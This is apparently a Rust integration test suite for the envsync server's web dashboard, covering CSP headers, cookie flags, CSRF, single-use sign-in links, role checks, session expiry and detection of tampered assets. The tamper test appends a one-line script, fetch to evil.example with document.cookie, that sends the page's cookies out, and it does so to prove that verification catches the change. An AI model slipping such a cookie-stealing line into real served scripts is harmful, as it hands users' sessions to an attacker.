//! The web dashboard's server side, against a real `envsync server` with teammates made by
//! the real CLI: the page's security headers, signing in (a token, or the single-use code
//! `envsync dashboard` makes) and out, the session cookie's flags, CSRF on every
//! state-changing request, expiry, a reader's session refused where a reader's token is,
//! and the cookie-authenticated event stream refused from another origin. The browser side
//! is dashboard/test/ (headless chromium).

mod support;

use std::io::{Read, Write};
use std::process::Command;
use std::time::Duration;

use support::Team;
use support::server::{Api, Server};
use support::team_server::{alice_invites_bob, server_owner};

/// A reply with the headers these tests look at.
struct Answer {
    status: u16,
    set_cookie: Option<String>,
    csp: Option<String>,
    frame: Option<String>,
    body: String,
}

impl Answer {
    fn json(&self) -> serde_json::Value {
        serde_json::from_str(&self.body).unwrap_or_else(|_| panic!("not JSON: {}", self.body))
    }

    /// The session cookie's value from `Set-Cookie`.
    fn session(&self) -> String {
        let header = self.set_cookie.as_deref().expect("a Set-Cookie header");
        let pair = header.split(';').next().unwrap();
        pair.strip_prefix("envsync_session=").unwrap().to_owned()
    }
}

fn agent() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(30)))
        .build()
        .into()
}

/// One request: `cookie` is the session cookie's value, `csrf` the `X-CSRF-Token` header.
fn request(
    server: &Server,
    method: &str,
    path: &str,
    cookie: Option<&str>,
    csrf: Option<&str>,
    body: Option<&str>,
) -> Answer {
    let mut builder = ureq::http::Request::builder()
        .method(method)
        .uri(format!("{}{path}", server.url));
    if let Some(cookie) = cookie {
        builder = builder.header("Cookie", format!("envsync_session={cookie}"));
    }
    if let Some(csrf) = csrf {
        builder = builder.header("X-CSRF-Token", csrf);
    }
    let agent = agent();
    let result = match body {
        Some(body) => agent.run(
            builder
                .header("Content-Type", "application/json")
                .body(body.to_owned())
                .unwrap(),
        ),
        None => agent.run(builder.body(()).unwrap()),
    };
    let mut response = result.expect("HTTP request");
    let header = |name: &str| {
        response
            .headers()
            .get(name)
            .map(|value| value.to_str().unwrap().to_owned())
    };
    let (set_cookie, csp, frame) = (
        header("set-cookie"),
        header("content-security-policy"),
        header("x-frame-options"),
    );
    Answer {
        status: response.status().as_u16(),
        set_cookie,
        csp,
        frame,
        body: response.body_mut().read_to_string().unwrap_or_default(),
    }
}

/// Signs in with `token`: the session cookie and its CSRF token.
fn sign_in(server: &Server, token: &str) -> (String, String) {
    let body = serde_json::json!({ "token": token }).to_string();
    let answer = request(server, "POST", "/api/v1/session", None, None, Some(&body));
    assert_eq!(answer.status, 201, "{}", answer.body);
    let csrf = answer.json()["csrf_token"].as_str().unwrap().to_owned();
    (answer.session(), csrf)
}

fn owner_server(team: &Team) -> (Server, support::Teammate) {
    let server = Server::sqlite(&team.root.path().join("server"));
    let alice = server_owner(team, &server, "alice");
    (server, alice)
}

#[test]
fn the_page_is_served_under_a_strict_content_security_policy() {
    let team = Team::new();
    let server = Server::sqlite(&team.root.path().join("server"));
    let page = request(&server, "GET", "/", None, None, None);
    assert_eq!(page.status, 200);
    let csp = page.csp.expect("a Content-Security-Policy header");
    for directive in [
        "default-src 'none'",
        "script-src 'self'",
        "frame-ancestors 'none'",
    ] {
        assert!(csp.contains(directive), "{csp}");
    }
    assert!(
        !csp.contains("unsafe-inline") && !csp.contains("http"),
        "{csp}"
    );
    assert_eq!(page.frame.as_deref(), Some("DENY"));
    // A build with the dashboard pins its script; one without says how to build it.
    if page.body.contains("<script") {
        assert!(page.body.contains("integrity=\"sha384-"), "{}", page.body);
        let script = request(&server, "GET", "/assets/app.js", None, None, None);
        assert_eq!(script.status, 200);
        assert!(script.csp.is_some());
    } else {
        assert!(
            page.body.contains("dashboard/scripts/build.sh"),
            "{}",
            page.body
        );
    }
    let missing = request(&server, "GET", "/assets/nothing.js", None, None, None);
    assert_eq!(missing.status, 404);
}

#[test]
fn a_token_signs_in_with_a_strict_cookie_and_signing_out_ends_the_session() {
    let team = Team::new();
    let (server, alice) = owner_server(&team);
    let token = alice.server_token();
    let body = serde_json::json!({ "token": token }).to_string();
    let answer = request(&server, "POST", "/api/v1/session", None, None, Some(&body));
    assert_eq!(answer.status, 201, "{}", answer.body);
    let cookie_header = answer.set_cookie.clone().unwrap();
    for flag in ["HttpOnly", "SameSite=Strict", "Path=/", "Max-Age="] {
        assert!(cookie_header.contains(flag), "{cookie_header}");
    }
    // Plain HTTP on loopback: a Secure cookie would never come back.
    assert!(!cookie_header.contains("Secure"), "{cookie_header}");
    let info = answer.json();
    assert_eq!(info["name"], "alice");
    assert_eq!(info["admin"], true);
    let (cookie, csrf) = (
        answer.session(),
        info["csrf_token"].as_str().unwrap().to_owned(),
    );
    assert!(!cookie.contains(&token) && cookie != token);

    let whoami = request(&server, "GET", "/api/v1/whoami", Some(&cookie), None, None);
    assert_eq!(whoami.status, 200, "{}", whoami.body);
    assert_eq!(whoami.json()["name"], "alice");
    let refused = request(
        &server,
        "DELETE",
        "/api/v1/session",
        Some(&cookie),
        None,
        None,
    );
    assert_eq!(refused.status, 403, "sign-out without the CSRF token");
    let out = request(
        &server,
        "DELETE",
        "/api/v1/session",
        Some(&cookie),
        Some(&csrf),
        None,
    );
    assert_eq!(out.status, 204, "{}", out.body);
    assert!(out.set_cookie.unwrap().contains("Max-Age=0"));
    let after = request(&server, "GET", "/api/v1/whoami", Some(&cookie), None, None);
    assert_eq!(after.status, 401, "{}", after.body);
    // The bearer token keeps working.
    let bearer = alice.run(&["token", "list", "--json"]).ok();
    assert!(bearer.stdout.contains("tokens"));
    let audit = Api::new(&server.url)
        .get("/api/v1/audit", Some(&token))
        .body;
    assert!(
        audit.contains("dashboard.sign_in") && audit.contains("dashboard.sign_out"),
        "{audit}"
    );
}

#[test]
fn every_state_change_needs_the_sessions_csrf_token() {
    let team = Team::new();
    let (server, alice) = owner_server(&team);
    let (cookie, csrf) = sign_in(&server, &alice.server_token());
    let body = r#"{"label":"from the dashboard"}"#;
    let tokens = "/api/v1/tokens";
    for header in [None, Some("wrong"), Some("")] {
        let refused = request(&server, "POST", tokens, Some(&cookie), header, Some(body));
        assert_eq!(refused.status, 403, "{header:?}: {}", refused.body);
        assert!(refused.body.contains("X-CSRF-Token") || refused.body.contains("x-csrf-token"));
    }
    let listed = request(&server, "GET", tokens, Some(&cookie), None, None).json();
    assert_eq!(
        listed["tokens"].as_array().unwrap().len(),
        1,
        "nothing was created"
    );
    let created = request(
        &server,
        "POST",
        tokens,
        Some(&cookie),
        Some(&csrf),
        Some(body),
    );
    assert_eq!(created.status, 201, "{}", created.body);
    let id = created.json()["info"]["id"].as_str().unwrap().to_owned();
    let revoke = format!("/api/v1/tokens/{id}");
    let refused = request(&server, "DELETE", &revoke, Some(&cookie), None, None);
    assert_eq!(refused.status, 403);
    let revoked = request(&server, "DELETE", &revoke, Some(&cookie), Some(&csrf), None);
    assert_eq!(revoked.status, 204, "{}", revoked.body);
}

#[test]
fn envsync_dashboard_makes_a_sign_in_link_that_works_once() {
    let team = Team::new();
    let (server, alice) = owner_server(&team);
    alice.write_env(".env", "A=1\n");
    alice.run(&["push", "-m", "first"]).ok();
    let link = alice
        .run(&["dashboard", "--no-open", "--json"])
        .ok()
        .document("DashboardLink");
    assert_eq!(link["opened"], false);
    let url = link["url"].as_str().unwrap();
    let (page, fragment) = url
        .split_once("/#signin=")
        .expect("the code is in the fragment");
    assert_eq!(page, server.url);
    // After the code, the membership entry Alice's envsync verified, for the page to hold
    // the server's log to.
    let (code, pins) = fragment.split_once('&').unwrap_or((fragment, ""));
    let digest = |pin: &str| pin.rsplit(':').next().unwrap_or_default().len();
    assert!(
        pins.strip_prefix("pin=app:1:")
            .is_some_and(|pin| digest(pin) == 64),
        "{url}"
    );
    let body = serde_json::json!({ "code": code }).to_string();
    let first = request(&server, "POST", "/api/v1/session", None, None, Some(&body));
    assert_eq!(first.status, 201, "{}", first.body);
    assert_eq!(first.json()["name"], "alice");
    let again = request(&server, "POST", "/api/v1/session", None, None, Some(&body));
    assert_eq!(again.status, 401, "a code signs in once: {}", again.body);
    let text = alice.run(&["dashboard", "--no-open"]).ok();
    assert!(
        text.stdout.starts_with(&format!("{}/#signin=", server.url)),
        "{}",
        text.stdout
    );
    // Neither the code nor the session cookie is written to the server's log.
    let log = server.log();
    assert!(
        !log.contains(code) && !log.contains(&first.session()),
        "{log}"
    );
}

#[test]
fn a_readers_session_is_refused_where_a_readers_token_is() {
    let team = Team::new();
    let server = Server::sqlite(&team.root.path().join("server"));
    let (_alice, bob) = alice_invites_bob(&team, &server, &server, "reader");
    let (cookie, csrf) = sign_in(&server, &bob.server_token());
    for path in [
        "/api/v1/projects/app/audit",
        "/api/v1/projects/app/grants",
        "/api/v1/audit",
    ] {
        let refused = request(&server, "GET", path, Some(&cookie), None, None);
        assert!(
            [403, 404].contains(&refused.status),
            "{path}: {} {}",
            refused.status,
            refused.body
        );
    }
    let body = r#"{"name":"ci","environment":"development","member_key":"age1x:y"}"#;
    let ci = "/api/v1/projects/app/ci-tokens";
    let refused = request(&server, "POST", ci, Some(&cookie), Some(&csrf), Some(body));
    assert!([403, 404].contains(&refused.status), "{}", refused.body);
    let head = "/api/v1/projects/app/environments/development/head";
    let allowed = request(&server, "GET", head, Some(&cookie), None, None);
    assert_eq!(allowed.status, 200, "a reader reads: {}", allowed.body);
}

#[test]
fn expired_sessions_and_revoked_tokens_end_sessions() {
    let team = Team::new();
    let (server, alice) = owner_server(&team);
    let (expiring, _) = sign_in(&server, &alice.server_token());
    let database = team.root.path().join("server/envsync.db");
    let output = Command::new("sqlite3")
        .arg(&database)
        .arg("UPDATE dashboard_sessions SET expires_at = 1")
        .output()
        .expect("the sqlite3 CLI is installed");
    assert!(output.status.success(), "{output:?}");
    let expired = request(
        &server,
        "GET",
        "/api/v1/whoami",
        Some(&expiring),
        None,
        None,
    );
    assert_eq!(expired.status, 401, "{}", expired.body);
    let session = request(
        &server,
        "GET",
        "/api/v1/session",
        Some(&expiring),
        None,
        None,
    );
    assert_eq!(session.status, 401);

    let created = alice
        .run(&["token", "create", "short-lived", "--json"])
        .ok()
        .json();
    let (token, id) = (
        created["token"].as_str().unwrap(),
        created["info"]["id"].as_str().unwrap(),
    );
    let (cookie, _) = sign_in(&server, token);
    let before = request(&server, "GET", "/api/v1/whoami", Some(&cookie), None, None);
    assert_eq!(before.status, 200);
    alice.run(&["token", "revoke", id]).ok();
    let after = request(&server, "GET", "/api/v1/whoami", Some(&cookie), None, None);
    assert_eq!(
        after.status, 401,
        "a revoked token's session ends: {}",
        after.body
    );
}

/// The first line of the answer to a WebSocket upgrade of the event stream.
fn upgrade(server: &Server, cookie: &str, origin: &str) -> String {
    let address = server.url.strip_prefix("http://").unwrap();
    let mut stream = std::net::TcpStream::connect(address).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let request = format!(
        "GET /api/v1/events HTTP/1.1\r\nHost: {address}\r\nConnection: Upgrade\r\n\
         Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nOrigin: {origin}\r\n\
         Cookie: envsync_session={cookie}\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).unwrap();
    let mut buffer = [0u8; 512];
    let read = stream.read(&mut buffer).unwrap();
    String::from_utf8_lossy(&buffer[..read])
        .lines()
        .next()
        .unwrap_or_default()
        .to_owned()
}

#[test]
fn a_sessions_event_stream_opens_only_from_the_dashboards_origin() {
    let team = Team::new();
    let (server, alice) = owner_server(&team);
    let (cookie, _) = sign_in(&server, &alice.server_token());
    let address = server.url.strip_prefix("http://").unwrap();
    let port = address.rsplit(':').next().unwrap();
    for origin in [
        "http://evil.example".to_owned(),
        format!("http://localhost:{port}"),
        "null".to_owned(),
    ] {
        let line = upgrade(&server, &cookie, &origin);
        assert!(line.contains(" 403 "), "{origin}: {line}");
    }
    let line = upgrade(&server, &cookie, &server.url);
    assert!(line.contains(" 101 "), "{line}");
}

#[test]
fn a_ci_token_cannot_sign_in() {
    let team = Team::new();
    let (server, alice) = owner_server(&team);
    alice.write_env(".env", "A=1\n");
    alice.run(&["push", "-m", "first"]).ok();
    let ci = alice
        .run(&["ci", "add", "runner", "--env", "development", "--json"])
        .ok()
        .json();
    let token = ci["ENVSYNC_TOKEN"].as_str().expect("a CI token");
    let body = serde_json::json!({ "token": token }).to_string();
    let refused = request(&server, "POST", "/api/v1/session", None, None, Some(&body));
    assert_eq!(refused.status, 403, "{}", refused.body);
    assert!(refused.set_cookie.is_none());
    let both = serde_json::json!({ "token": token, "code": "x" }).to_string();
    let bad = request(&server, "POST", "/api/v1/session", None, None, Some(&both));
    assert_eq!(bad.status, 400, "{}", bad.body);
}

#[test]
fn dashboard_verify_compares_the_served_build_with_this_binarys() {
    let team = Team::new();
    let (server, alice) = owner_server(&team);
    let page = request(&server, "GET", "/", None, None, None);
    if !page.body.contains("<script") {
        let refused = alice.run(&["dashboard", "--verify", &server.url]).code(1);
        assert!(
            refused.stderr.contains("built without the dashboard"),
            "{}",
            refused.stderr
        );
        return;
    }
    let verified = alice
        .run(&["dashboard", "--verify", &server.url, "--json"])
        .ok()
        .document("DashboardVerified");
    assert_eq!(verified["matches"], true, "{verified}");
    // index.html, app.js, app.css, and unlock.js, which this server (unlocking off) does
    // not serve.
    let assets = verified["assets"].as_array().unwrap();
    assert_eq!(assets.len(), 4, "{verified}");
    let unlock = assets
        .iter()
        .find(|a| a["path"] == "/assets/unlock.js")
        .unwrap();
    assert_eq!(
        unlock["served_sha256"],
        serde_json::Value::Null,
        "{verified}"
    );
    // A server that changed one byte of the script: a real HTTP server serving a copy.
    let root = team.root.path().join("tampered");
    std::fs::create_dir_all(root.join("assets")).unwrap();
    std::fs::write(root.join("index.html"), &page.body).unwrap();
    for file in ["app.js", "app.css"] {
        let served = request(&server, "GET", &format!("/assets/{file}"), None, None, None);
        std::fs::write(root.join("assets").join(file), served.body).unwrap();
    }
    let script = root.join("assets/app.js");
    let mut bytes = std::fs::read(&script).unwrap();
    bytes.extend_from_slice(b"\n;fetch('https://evil.example/'+document.cookie)\n");
    std::fs::write(&script, bytes).unwrap();
    let mut python = Command::new("python3")
        .args(["-u", "-m", "http.server", "0", "--bind", "127.0.0.1"])
        .current_dir(&root)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("python3 (scripts/test.sh installs it)");
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(python.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    let port = line
        .split("port ")
        .nth(1)
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap();
    let tampered = alice
        .run(&[
            "dashboard",
            "--verify",
            &format!("http://127.0.0.1:{port}"),
            "--json",
        ])
        .code(6)
        .json();
    let _ = python.kill();
    let _ = python.wait();
    assert_eq!(tampered["matches"], false);
    let failed: Vec<_> = tampered["assets"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|asset| asset["matches"] == false)
        .map(|asset| asset["path"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(failed, ["/assets/app.js"]);
}

#[test]
fn unlocking_is_off_unless_the_operator_enables_it() {
    let team = Team::new();
    let (server, alice) = owner_server(&team);
    let (cookie, _) = sign_in(&server, &alice.server_token());
    let session = request(&server, "GET", "/api/v1/session", Some(&cookie), None, None);
    assert_eq!(session.json()["unlock"], false, "{}", session.body);
    let built = request(&server, "GET", "/", None, None, None)
        .body
        .contains("<script");
    let script = request(&server, "GET", "/assets/unlock.js", None, None, None);
    assert_eq!(script.status, 404, "served without --dashboard-unlock");

    let data_dir = team.root.path().join("server");
    drop(server);
    let on = Server::start(vec![
        "--data-dir".into(),
        data_dir.display().to_string(),
        "--dashboard-unlock".into(),
    ]);
    let (cookie, _) = sign_in(&on, &alice.server_token());
    let session = request(&on, "GET", "/api/v1/session", Some(&cookie), None, None);
    assert_eq!(session.json()["unlock"], true, "{}", session.body);
    let script = request(&on, "GET", "/assets/unlock.js", None, None, None);
    assert_eq!(script.status, if built { 200 } else { 404 });
    if built {
        // Served now, the unlock script is compared like every other asset.
        let verified = alice
            .run(&["dashboard", "--verify", &on.url, "--json"])
            .ok()
            .document("DashboardVerified");
        let assets = verified["assets"].as_array().unwrap();
        let unlock = assets.iter().find(|a| a["path"] == "/assets/unlock.js");
        let unlock = unlock.expect("the unlock script is listed");
        assert_eq!(
            unlock["served_sha256"], unlock["expected_sha256"],
            "{verified}"
        );
        assert_eq!(verified["matches"], true);
    }
}
